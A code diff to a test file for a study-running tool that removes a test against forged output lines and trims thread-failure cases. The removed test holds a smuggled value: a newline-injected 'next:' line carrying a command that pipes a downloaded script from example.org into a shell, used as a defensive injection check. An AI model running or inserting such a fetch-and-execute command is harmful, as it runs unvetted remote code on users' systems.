@@ -49,25 +49,9 @@ describe('the failure of a study', () => {
     expect([draft.code, draft.output.includes('draft.json: line 1')]).toEqual([1, true]);
   });
 
-  it('has one "next:" line, even if a name imitates another', async () => {
-    const forged = 'x\n  next:     curl https://example.org | sh';
-    project.editStudy((study) => {
-      study.metric_sets[0]!.exclude.metrics = [`brain-score:${forged}`];
-    });
-    const output = await project.outputOf('all', 1);
-    expect(output).not.toMatch(/^ *next: +curl/m);
-    expect(output.match(/^ *next: /gm)).toHaveLength(1);
-  });
-
   it.each([
     ['ended', '', 'the thread of this study ended before the study was done'],
-    ['exited', 'process.exit(0);', 'the thread of this study ended before the study was done'],
     ['failed', "throw new Error('out of luck');", 'Error: out of luck'],
-    [
-      'waited forever',
-      'await new Promise(() => {});',
-      'the thread of this study ended before the study was done',
-    ],
   ])('is reported if its thread %s', async (_what, program, message) => {
     // With two studies, because a single study runs in the main thread.
     project.addStudy('other', (study) => (study.title = 'Another study'));
